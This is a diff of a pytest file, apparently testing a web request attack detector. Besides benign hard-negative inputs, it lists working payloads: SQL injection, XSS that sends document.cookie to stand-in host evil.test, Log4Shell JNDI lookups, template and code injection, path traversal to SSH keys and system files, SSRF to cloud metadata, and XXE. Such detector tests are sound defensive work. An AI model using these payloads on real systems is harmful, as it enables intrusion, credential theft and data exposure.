@@ -26,19 +26,33 @@ ATTACKS = [
     pytest.param("sqli", "1; WAITFOR DELAY '0:0:9'--", id="sqli-time-mssql"),
     pytest.param("sqli", "9 AND extractvalue(0x0a,concat(0x0a,@@version))", id="sqli-error-based"),
     pytest.param("sqli", "10 ORDER BY 12--", id="sqli-order-by-probe"),
-    pytest.param("sqli", "zz' AND ascii(substring(pw,1,1))>64 AND 'q'='q", id="sqli-blind-substring"),
+    pytest.param(
+        "sqli", "zz' AND ascii(substring(pw,1,1))>64 AND 'q'='q", id="sqli-blind-substring"
+    ),
     pytest.param("sqli", "%2527%2520or%25201%253D1--", id="sqli-double-encoded"),
-    pytest.param("sqli", "ｘ＇ ｏｒ ＇ｂ＇＝＇ｂ", id="sqli-fullwidth"),
-    pytest.param("sqli", "1 AND (SELECT count(*) FROM information_schema.tables)>0", id="sqli-subquery"),
+    pytest.param(
+        "sqli",
+        "".join(chr(ord(c) + 0xFEE0) if c != " " else c for c in "x' or 'b'='b"),
+        id="sqli-fullwidth",
+    ),
+    pytest.param(
+        "sqli", "1 AND (SELECT count(*) FROM information_schema.tables)>0", id="sqli-subquery"
+    ),
     # -- XSS -------------------------------------------------------------------
-    pytest.param("xss", "<script>fetch('//evil.test?c='+document.cookie)</script>", id="xss-script"),
+    pytest.param(
+        "xss", "<script>fetch('//evil.test?c='+document.cookie)</script>", id="xss-script"
+    ),
     pytest.param("xss", "<img src=nope onerror=confirm(7)>", id="xss-img-onerror"),
     pytest.param("xss", "<svg/onload=top['al'+'ert'](1)>", id="xss-svg-onload"),
     pytest.param("xss", '"><details open ontoggle=print()>', id="xss-attribute-break"),
     pytest.param("xss", "<a href='jav&#x09;ascript:run()'>go</a>", id="xss-js-url-entity-tab"),
-    pytest.param("xss", "<iframe srcdoc='&lt;script&gt;x()&lt;/script&gt;'>", id="xss-iframe-srcdoc"),
+    pytest.param(
+        "xss", "<iframe srcdoc='&lt;script&gt;x()&lt;/script&gt;'>", id="xss-iframe-srcdoc"
+    ),
     pytest.param("xss", "%3Cbody%20onpageshow%3Dstart()%3E", id="xss-encoded-body"),
-    pytest.param("xss", "<math><mtext><a href=javascript:go()>m</a></mtext></math>", id="xss-mathml"),
+    pytest.param(
+        "xss", "<math><mtext><a href=javascript:go()>m</a></mtext></math>", id="xss-mathml"
+    ),
     pytest.param("xss", "{{constructor.constructor('go()')()}}", id="xss-angular-template"),
     pytest.param("xss", "<object data='data:text/html;base64,PHNjcmlwdD4='>", id="xss-data-url"),
     # -- path traversal ----------------------------------------------------------
@@ -47,7 +61,9 @@ ATTACKS = [
     pytest.param("path_traversal", "..%c0%af..%c0%afboot.ini", id="pt-overlong-utf8"),
     pytest.param("path_traversal", "..\\..\\..\\windows\\win.ini", id="pt-backslashes"),
     pytest.param("path_traversal", "file:///proc/self/environ", id="pt-file-url"),
-    pytest.param("path_traversal", "php://filter/convert.base64-encode/resource=conf", id="pt-php-filter"),
+    pytest.param(
+        "path_traversal", "php://filter/convert.base64-encode/resource=conf", id="pt-php-filter"
+    ),
     pytest.param("path_traversal", "....//....//....//etc/hosts", id="pt-nested-dots"),
     pytest.param("path_traversal", "/home/deploy/.ssh/id_rsa", id="pt-ssh-key"),
     # -- command injection -------------------------------------------------------------
@@ -63,16 +79,26 @@ ATTACKS = [
     # -- code injection --------------------------------------------------------------
     pytest.param("code_injection", "<?php passthru($_GET['c']); ?>", id="code-php"),
     pytest.param("code_injection", "${jndi:ldap://evil.test:1389/o}", id="code-log4shell"),
-    pytest.param("code_injection", "${${lower:j}ndi:${lower:r}mi://evil.test/a}", id="code-log4shell-nested"),
-    pytest.param("code_injection", "{{ ''.__class__.__mro__[1].__subclasses__() }}", id="code-ssti-jinja"),
-    pytest.param("code_injection", "#{T(java.lang.Runtime).getRuntime().exec('id')}", id="code-spel"),
+    pytest.param(
+        "code_injection", "${${lower:j}ndi:${lower:r}mi://evil.test/a}", id="code-log4shell-nested"
+    ),
+    pytest.param(
+        "code_injection", "{{ ''.__class__.__mro__[1].__subclasses__() }}", id="code-ssti-jinja"
+    ),
+    pytest.param(
+        "code_injection", "#{T(java.lang.Runtime).getRuntime().exec('id')}", id="code-spel"
+    ),
     pytest.param("code_injection", "__import__('os').popen('id').read()", id="code-python"),
     pytest.param("code_injection", "require('child_process').execSync('id')", id="code-node"),
-    pytest.param("code_injection", 'O:8:"Gadget42":1:{s:4:"file";s:3:"x.y";}', id="code-php-object"),
+    pytest.param(
+        "code_injection", 'O:8:"Gadget42":1:{s:4:"file";s:3:"x.y";}', id="code-php-object"
+    ),
     # -- second tier -------------------------------------------------------------------
     pytest.param("ssrf", "http://169.254.169.254/latest/meta-data/iam/", id="ssrf-metadata"),
     pytest.param("ssrf", "gopher://127.0.0.1:6379/_FLUSHALL", id="ssrf-gopher"),
-    pytest.param("xxe", '<!DOCTYPE r [<!ENTITY x SYSTEM "file:///etc/hostname">]><r>&x;</r>', id="xxe"),
+    pytest.param(
+        "xxe", '<!DOCTYPE r [<!ENTITY x SYSTEM "file:///etc/hostname">]><r>&x;</r>', id="xxe"
+    ),
     pytest.param("nosqli", '{"$where": "sleep(100)"}', id="nosqli-where"),
     pytest.param("ldapi", "*)(uid=*))(|(uid=*", id="ldapi"),
     pytest.param("protocol_attack", "en%0d%0aSet-Cookie:%20sid=fixated", id="crlf-set-cookie"),
@@ -85,28 +111,45 @@ HARD_NEGATIVES = [
     pytest.param("I'd rather sleep (8 hours) than order by phone", id="prose-sleep-order"),
     pytest.param("rock 'n' roll -- the 1950s", id="prose-quotes-dashes"),
     pytest.param("salt and pepper", id="search-and"),
-    pytest.param("\"Black\" and \"White\" prints", id="quoted-words-and"),
+    pytest.param('"Black" and "White" prints', id="quoted-words-and"),
     pytest.param("2024-03-01", id="date"),
     pytest.param("10-20 items", id="range"),
-    pytest.param("Use <b>bold</b> and <i>italics</i>, like <a href=\"https://x.test\">this</a>", id="benign-html"),
-    pytest.param("<p align=\"center\"><img src=\"logo.png\" alt=\"logo\"></p>", id="benign-html-image"),
+    pytest.param(
+        'Use <b>bold</b> and <i>italics</i>, like <a href="https://x.test">this</a>',
+        id="benign-html",
+    ),
+    pytest.param('<p align="center"><img src="logo.png" alt="logo"></p>', id="benign-html-image"),
     pytest.param("See ../docs/setup.md for details", id="relative-link"),
     pytest.param("Cats & dogs; more to come", id="ampersand-semicolon"),
-    pytest.param("Run `pip install pynomaly` then `uvicorn app:app --reload`", id="markdown-commands"),
-    pytest.param("```python\nfrom starlette.applications import Starlette\napp = Starlette()\n```", id="markdown-code"),
+    pytest.param(
+        "Run `pip install pynomaly` then `uvicorn app:app --reload`", id="markdown-commands"
+    ),
+    pytest.param(
+        "```python\nfrom starlette.applications import Starlette\napp = Starlette()\n```",
+        id="markdown-code",
+    ),
     pytest.param("The expression (a + b) * c is evaluated first", id="math-prose"),
-    pytest.param("Mozilla/5.0 (X11; Linux x86_64; rv:128.0) Gecko/20100101 Firefox/128.0", id="user-agent"),
+    pytest.param(
+        "Mozilla/5.0 (X11; Linux x86_64; rv:128.0) Gecko/20100101 Firefox/128.0", id="user-agent"
+    ),
     pytest.param("https://www.example.com/search?q=shoes&page=2", id="url"),
     pytest.param('{"items":[{"id":1,"name":"A"}],"total":null}', id="json-string"),
     pytest.param("1719849600000|1||A|B", id="pipe-separated-cookie"),
     pytest.param("email me at a.b@example.org", id="email"),
-    pytest.param("The system (as a whole) must include the range (1 to 5)", id="prose-php-function-words"),
-    pytest.param("café ＡＢＣ 東京", id="unicode"),
+    pytest.param(
+        "The system (as a whole) must include the range (1 to 5)", id="prose-php-function-words"
+    ),
+    pytest.param("caf\u00e9 \uff21\uff22\uff23 \u6771\u4eac", id="unicode"),
 ]
 
 
 def _places(value: str) -> list[RequestParts]:
-    return [query(value), form(value), json_body({"user": {"comment": value}}), header("x-note", value)]
+    return [
+        query(value),
+        form(value),
+        json_body({"user": {"comment": value}}),
+        header("x-note", value),
+    ]
 
 
 @pytest.mark.parametrize(("family", "payload"), ATTACKS)
